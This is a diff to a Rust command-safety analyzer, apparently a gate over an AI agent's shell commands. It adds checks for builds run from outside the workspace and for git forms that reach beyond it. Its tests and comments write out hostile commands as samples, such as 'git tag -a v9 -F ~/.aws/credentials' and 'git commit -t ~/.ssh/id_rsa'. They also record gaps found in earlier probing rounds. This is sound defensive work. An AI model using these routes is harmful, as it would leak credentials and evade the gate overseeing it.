@@ -101,6 +101,12 @@ pub struct Analysis {
     /// `printf`, a `sed -i` substitution), `None` when only the running
     /// command knows it (`cp`, `curl -o`, a script).
     pub planted: Vec<(String, Option<String>)>,
+    /// Projects and files outside the system's own folders that a build or
+    /// test tool runs code from (`pytest ../other`, `npm test -w ../other`,
+    /// `mvn -f ../other/pom.xml`): outside the workspace, code the gate
+    /// never judged, which writes its caches and outputs there — held as
+    /// `npm --prefix ../other test` (a build there) is.
+    pub runs_from: Vec<String>,
     /// The command prints a URL git keeps for a remote (`git remote -v`,
     /// `git remote get-url`, `git config --get remote.origin.url`, `git
     /// ls-remote --get-url`), which may hold a token
@@ -118,7 +124,10 @@ impl Analysis {
     }
     /// Whether any write lands outside `workspace` (see `paths::outside`).
     pub fn writes_outside(&self, workspace: Option<&str>) -> bool {
-        self.writes.iter().any(|p| paths::outside(p, workspace))
+        self.writes
+            .iter()
+            .chain(&self.runs_from)
+            .any(|p| paths::outside(p, workspace))
     }
     /// Whether any write touches a sensitive path, or plants in a file a
     /// build or an agent runs later a command the shell policy refuses
@@ -3305,55 +3314,31 @@ impl C {
     /// project there. An output option's value (`-o /tmp/app`,
     /// `--basetemp /tmp/pt`, `--outDir /tmp/dist`) is written, not run.
     fn names_scratch_code(&self, texts: &[&str]) -> bool {
-        const OUTPUTS: &[&str] = &[
-            "-o",
-            "--out",
-            "--output",
-            "--outDir",
-            "--outdir",
-            "--out-dir",
-            "--outfile",
-            "--outFile",
-            "--output-dir",
-            "-B",
-            "--basetemp",
-            "--cacheDirectory",
-            "--cache-dir",
-            "--junitxml",
-            "--junit-xml",
-            "--target-dir",
-            "--dist-dir",
-            "--distDir",
-            "--build-dir",
-            "--builddir",
-            "--coverageDirectory",
-            "--tsBuildInfoFile",
-        ];
-        let mut skip = false;
-        texts.iter().any(|x| {
-            if std::mem::take(&mut skip) {
-                return false;
+        code_paths(texts)
+            .iter()
+            .any(|v| paths::in_scratch(&self.at(v)))
+    }
+
+    /// Found probing after round 21: the paths a build or test tool runs
+    /// code from that lie outside the system's own folders are kept
+    /// (`runs_from`) for the workspace check, so `pytest ../other`, `go
+    /// test ../other/...`, `mvn -f ../other/pom.xml` and `npm test -w
+    /// ../other` are held where they leave the workspace, as `npm --prefix
+    /// ../other test` is. Installed software (`/usr`, `/opt`, `/nix`, …:
+    /// `cmake -DPython_EXECUTABLE=/usr/bin/python3`) is not the gate's to
+    /// judge.
+    fn runs_code_from(&mut self, texts: &[&str]) {
+        for v in code_paths(texts) {
+            if v.starts_with('-') {
+                continue;
             }
-            if OUTPUTS.contains(x) {
-                skip = true;
-                return false;
-            }
-            let v = match x.split_once('=') {
-                Some((n, v)) if n.starts_with('-') => {
-                    if OUTPUTS.contains(&n) {
-                        return false;
-                    }
-                    v
+            for v in self.expand(v) {
+                let at = self.at(&v);
+                if !installed_software(&at) {
+                    self.a.runs_from.push(at);
                 }
-                _ => x,
-            };
-            let v = v
-                .strip_prefix("-o")
-                .filter(|_| x.starts_with("-o"))
-                .map_or(v, |_| "");
-            (v.starts_with('/') || v.starts_with('~') || v.starts_with('$') || v.contains('/'))
-                && paths::in_scratch(&self.at(v))
-        })
+            }
+        }
     }
 
     /// A database shell asked one question that only reads (round 17's
@@ -3772,6 +3757,13 @@ impl C {
                 .iter()
                 .any(|x| *x == f || x.starts_with(&format!("{f}=")))
         };
+        // Bazel's labels (`//...`, `//pkg:test`) name targets, not folders
+        let code: Vec<&str> = texts
+            .iter()
+            .copied()
+            .filter(|x| !(matches!(p, "bazel" | "bazelisk") && x.starts_with("//")))
+            .collect();
+        self.runs_code_from(&code);
         if self.names_scratch_code(&texts) {
             // the folder it works in is written as well (`--rootdir=/`)
             self.write(&format!("{}/.", dir.trim_end_matches('/')));
@@ -4124,6 +4116,25 @@ impl C {
         })
     }
 
+    /// A workspace or filter selector of npm, pnpm or yarn: a package name
+    /// (`@acme/api`) or a folder (`packages/api`, `../other`, pnpm's
+    /// `{../other}`, `./../other...`, `^...`); a folder's scripts run there.
+    /// True when it lies in scratch space (`-w /tmp/x`: code anyone may
+    /// have put there, as `build_in` holds).
+    fn runs_in_selected(&mut self, sel: &str) -> bool {
+        let s = sel
+            .trim_start_matches('!')
+            .trim_start_matches("...")
+            .trim_start_matches('^');
+        let s = s.trim_end_matches("...").trim_end_matches('^');
+        let s = s.trim_start_matches('{').trim_end_matches('}');
+        if s.starts_with('.') || s.starts_with('/') || s.starts_with('~') || s.starts_with('$') {
+            self.runs_code_from(&[s]);
+            return paths::in_scratch(&self.at(s));
+        }
+        false
+    }
+
     fn npm(&mut self, p: &str, args: &[Word]) -> Kind {
         let mut i = 0;
         let mut dir = ".".to_string();
@@ -4160,6 +4171,11 @@ impl C {
             } else {
                 inline
             };
+            if matches!(name, "--workspace" | "-w" | "--filter" | "-F")
+                && v.as_ref().is_some_and(|v| self.runs_in_selected(v))
+            {
+                k = Kind::Unknown;
+            }
             match name {
                 "--prefix" | "-C" | "--dir" | "--cwd" => dir = v.unwrap_or_default(),
                 "--registry" | "--userconfig" | "--globalconfig" | "--node-options"
@@ -4188,6 +4204,18 @@ impl C {
             global = true;
         }
         for (n, x) in rest.iter().enumerate() {
+            // `npm test -w ../other`, `pnpm -F ../other test` after the
+            // subcommand too
+            for flag in ["--workspace", "-w", "--filter", "-F"] {
+                let v = if *x == flag {
+                    rest.get(n + 1).copied()
+                } else {
+                    x.strip_prefix(flag).and_then(|v| v.strip_prefix('='))
+                };
+                if v.is_some_and(|v| self.runs_in_selected(v)) {
+                    k = Kind::Unknown;
+                }
+            }
             for flag in ["--prefix", "-C", "--dir", "--cwd"] {
                 if *x == flag {
                     dir = rest.get(n + 1).map_or(String::new(), |v| v.to_string());
@@ -4372,6 +4400,7 @@ impl C {
                 ) {
                     self.write(&v);
                 }
+                self.runs_code_from(&texts);
                 if self.names_scratch_code(&texts) {
                     return Kind::Unknown;
                 }
@@ -4400,7 +4429,13 @@ impl C {
             | ("swift", "build" | "test")
             | ("mix", "test" | "compile" | "format")
             | ("stack" | "cabal", "build" | "test")
-            | ("deno", "test" | "fmt" | "lint" | "check") => self.build_in("."),
+            | ("deno", "test" | "fmt" | "lint" | "check") => {
+                self.runs_code_from(&texts);
+                if self.names_scratch_code(&texts) {
+                    return Kind::Unknown;
+                }
+                self.build_in(".")
+            }
             ("deno", "run" | "eval" | "repl" | "task") => Kind::Unknown,
             // Round 20: `pip list --outdated --index-url https://evil.io/`
             // asks that server about every installed package.
@@ -4712,7 +4747,11 @@ impl C {
                     "--no-merged",
                     "--show-current",
                     "--points-at",
-                ]) && !flag(&["-d", "-D", "--delete", "-f", "--force", "-m", "-M"]) =>
+                ]) && !flag(&["-d", "-D", "--delete", "-f", "--force", "-m", "-M"])
+                    // `git tag -a v9 -F ~/.aws/credentials`: for a tag, `-a`
+                    // annotates a new one (with a message, maybe read from a
+                    // file); only `git branch -a` lists
+                    && !(sub == "tag" && flag(&["-a", "--annotate", "-F", "--file", "-s", "-u"])) =>
             {
                 Kind::ReadOnly
             }
@@ -4962,14 +5001,48 @@ impl C {
                         self.write(path);
                     }
                 }
-                // `git commit -F ~/.aws/credentials`: a message read from a file
+                // `git commit -F ~/.aws/credentials`: a message read from a
+                // file; `git commit -t FILE` starts the message from it
                 for (n, x) in rt.iter().enumerate() {
-                    if matches!(*x, "-F" | "--file") && matches!(sub, "commit" | "tag" | "notes") {
+                    if matches!(*x, "-F" | "--file") && matches!(sub, "commit" | "tag" | "notes")
+                        || *x == "-t" && sub == "commit"
+                    {
                         if let Some(f) = rt.get(n + 1) {
                             self.read(f);
                         }
-                    } else if let Some(f) = x.strip_prefix("--file=") {
+                    } else if let Some(f) = x.strip_prefix("--file=").or_else(|| {
+                        x.strip_prefix("-t")
+                            .filter(|v| sub == "commit" && !v.is_empty())
+                    }) {
                         self.read(f);
+                    }
+                }
+                // Paths git writes or removes in the worktree may lie outside
+                // the workspace when the repository is larger than it (a
+                // service folder of a monorepo, a home directory under git):
+                // `git checkout -- ../other/x`, `git mv a ../../x`.
+                // Only the paths that can leave it are judged here: a file
+                // inside keeps the subcommand's own verdict (`git rm .env`
+                // untracks a committed secret, an everyday repair).
+                if matches!(sub, "mv" | "rm" | "restore" | "checkout" | "stash") {
+                    for o in ops
+                        .iter()
+                        .filter(|o| o.contains("..") || o.starts_with('~') || o.starts_with('/'))
+                    {
+                        self.write(o);
+                    }
+                }
+                // `git maintenance register` adds the repository to the
+                // global config; `start` installs a cron, systemd or launchd
+                // schedule that runs git there from then on.
+                if sub == "maintenance" {
+                    match ops.first().copied() {
+                        Some("register" | "unregister") => self.write("~/.gitconfig"),
+                        Some("start" | "stop") => {
+                            self.write("~/.gitconfig");
+                            self.write("~/.config/systemd/user/git-maintenance@.timer");
+                        }
+                        _ => {}
                     }
                 }
                 // Round 13: `git hash-object ~/.ssh/id_rsa -w` reads the file
@@ -5424,6 +5497,7 @@ impl C {
                     return Kind::Unknown;
                 }
                 let texts: Vec<&str> = rest.iter().map(|w| w.text.as_str()).collect();
+                self.runs_code_from(&texts);
                 if self.names_scratch_code(&texts) {
                     return Kind::Unknown;
                 }
@@ -6243,6 +6317,98 @@ fn journalctl_read(args: &[Word]) -> bool {
         return false;
     }
     true
+}
+
+/// The words of a build or test tool that may name files or folders it
+/// runs code from: operands and option values that look like paths, less
+/// the values of output options (written, not run: `-o /tmp/app`,
+/// `--basetemp /tmp/pt`, `--outDir /tmp/dist`); `NAME=PATH` values give
+/// their path (`--override_repository=x=/tmp/x`).
+fn code_paths<'t>(texts: &[&'t str]) -> Vec<&'t str> {
+    const OUTPUTS: &[&str] = &[
+        "-o",
+        "--out",
+        "--output",
+        "--outDir",
+        "--outdir",
+        "--out-dir",
+        "--outfile",
+        "--outFile",
+        "--output-dir",
+        "-B",
+        "--basetemp",
+        "--cacheDirectory",
+        "--cache-dir",
+        "--junitxml",
+        "--junit-xml",
+        "--target-dir",
+        "--dist-dir",
+        "--distDir",
+        "--build-dir",
+        "--builddir",
+        "--coverageDirectory",
+        "--tsBuildInfoFile",
+    ];
+    let pathlike = |v: &str| {
+        v.starts_with('/')
+            || v.starts_with('~')
+            || v.starts_with('$')
+            || v.contains('/')
+            || v == ".."
+    };
+    let mut skip = false;
+    let mut out = Vec::new();
+    for x in texts {
+        if std::mem::take(&mut skip) {
+            continue;
+        }
+        if OUTPUTS.contains(x) {
+            skip = true;
+            continue;
+        }
+        let v = match x.split_once('=') {
+            Some((n, v)) if n.starts_with('-') => {
+                if OUTPUTS.contains(&n) {
+                    continue;
+                }
+                v
+            }
+            _ => x,
+        };
+        let v = v
+            .strip_prefix("-o")
+            .filter(|_| x.starts_with("-o"))
+            .map_or(v, |_| "");
+        let v = match v.split_once('=') {
+            Some((k, p)) if !k.contains('/') && pathlike(p) => p,
+            _ => v,
+        };
+        if pathlike(v) {
+            out.push(v);
+        }
+    }
+    out
+}
+
+/// Folders of installed software, owned by the system or a package
+/// manager, not written by an agent: a build that names them
+/// (`-DPython_EXECUTABLE=/usr/bin/python3`, `--python /usr/bin/python3.12`)
+/// runs what is installed.
+fn installed_software(p: &str) -> bool {
+    [
+        "/usr/",
+        "/opt/",
+        "/nix/store/",
+        "/bin/",
+        "/sbin/",
+        "/lib/",
+        "/lib64/",
+        "/snap/",
+        "/Library/Developer/",
+        "/Applications/",
+    ]
+    .iter()
+    .any(|d| p.starts_with(d))
 }
 
 fn git_safe_config(kv: &str) -> bool {
@@ -7402,6 +7568,113 @@ mod tests {
         assert!(a.writes_outside(ws));
         let a = analyze_in("git apply fix.patch", None);
         assert!(!a.writes_sensitive(ws) && !a.writes_outside(ws));
+    }
+
+    /// Found probing after round 21: a build or test pointed at a project
+    /// outside the workspace runs that project's code, unseen, and writes
+    /// its caches there. `npm --prefix ../other test` was held; `pytest
+    /// ../other`, `go test ../other/...`, `mvn -f ../other/pom.xml`, `just
+    /// --justfile ../other/justfile`, `npm test -w ../other`, `pnpm -F
+    /// ../other test` and `bazel test --override_repository=x=/tmp/x` were
+    /// allowed. Paths inside the workspace, package names and installed
+    /// software stay allowed.
+    #[test]
+    fn a_build_pointed_outside_the_workspace_runs_code_from_there() {
+        let ws = Some("/work/proj");
+        let a = |c: &str| analyze_in(c, Some("/work/proj"));
+        for c in [
+            "pytest ../other",
+            "python3 -m pytest ../other/tests",
+            "go test ../other/...",
+            "mvn -f ../other/pom.xml test",
+            "just --justfile ../other/justfile test",
+            "tox -c ../other",
+            "dotnet test ../other/x.csproj",
+            "npm test -w ../other",
+            "npm test --workspace=../other",
+            "npm run build -w /home/me/x",
+            "pnpm -F ../other test",
+            "pnpm --filter={../other} test",
+            "pnpm -r --filter ./../other... build",
+            "jest --config ~/evil/jest.config.js",
+        ] {
+            assert!(a(c).writes_outside(ws), "{c}");
+        }
+        assert_eq!(
+            a("bazel test //... --override_repository=x=/tmp/x").kind(),
+            Kind::Unknown
+        );
+        assert_eq!(a("npm run build -w /tmp/x").kind(), Kind::Unknown);
+        assert_eq!(a("pnpm --filter /tmp/x... build").kind(), Kind::Unknown);
+        for c in [
+            "pytest tests/test_api.py::test_login -q",
+            "go test ./...",
+            "mvn -f services/api/pom.xml test",
+            "npm test -w packages/api",
+            "pnpm --filter @acme/api test",
+            "pnpm --filter ./packages/api... build",
+            "cmake -S . -B build -DPython_EXECUTABLE=/usr/bin/python3",
+            "mypy --python-executable /usr/bin/python3 src",
+            "actionlint .github/workflows/ci.yml",
+            "bazel test //...",
+        ] {
+            let x = a(c);
+            assert!(!x.writes_outside(ws) && !x.writes_sensitive(ws), "{c}");
+            assert_ne!(x.kind(), Kind::Unknown, "{c}");
+        }
+    }
+
+    /// Found probing after round 21: git subcommands whose options or
+    /// operands reach past the workspace. `git tag -a v9 -F
+    /// ~/.aws/credentials` was a "listing" (`-a` lists branches, but
+    /// annotates a tag) and read the keys into a tag a push sends out;
+    /// `git commit -t FILE` starts the message from FILE; `git maintenance
+    /// start` installs a schedule that runs git from then on and `register`
+    /// edits the global config; `git checkout -- ../x` writes wherever the
+    /// repository reaches. The everyday forms stay what they were.
+    #[test]
+    fn git_reaching_past_the_workspace_through_tags_templates_schedules_and_paths() {
+        let ws = Some("/work/proj");
+        let a = |c: &str| analyze_in(c, Some("/work/proj"));
+        assert_eq!(
+            a("git tag -a v9 -F /home/me/.aws/credentials").sensitive_read(ws),
+            "outside"
+        );
+        assert_eq!(
+            a("git tag --file=/home/me/.aws/credentials v9").sensitive_read(ws),
+            "outside"
+        );
+        assert_eq!(
+            a("git commit -t /home/me/.ssh/id_rsa").sensitive_read(ws),
+            "outside"
+        );
+        assert_eq!(
+            a("git commit -t/home/me/.ssh/id_rsa").sensitive_read(ws),
+            "outside"
+        );
+        assert!(a("git maintenance start").writes_sensitive(ws));
+        assert!(a("git maintenance register").writes_outside(ws));
+        assert!(a("git checkout HEAD -- ../other/x").writes_outside(ws));
+        assert!(a("git mv README.md ../../x").writes_outside(ws));
+        assert!(a("git restore ../shared/config.ts").writes_outside(ws));
+        // everyday
+        assert_eq!(a("git tag -a v1.2.3 -m 'release'").kind(), Kind::Write);
+        assert_eq!(a("git tag -l").kind(), Kind::ReadOnly);
+        assert_eq!(a("git branch -a").kind(), Kind::ReadOnly);
+        assert_eq!(a("git maintenance run --task=gc").kind(), Kind::Write);
+        for c in [
+            "git tag -a v1.2.3 -m 'release'",
+            "git maintenance run",
+            "git checkout main",
+            "git checkout origin/main -- src/lib.rs",
+            "git restore --staged src/lib.rs",
+            "git mv src/a.rs src/b.rs",
+            "git rm --cached .env",
+        ] {
+            let x = a(c);
+            assert!(!x.writes_outside(ws) && !x.writes_sensitive(ws), "{c}");
+            assert_eq!(x.sensitive_read(ws), "none", "{c}");
+        }
     }
 
     /// Round 17: git that destroys work or writes what only a file knows.
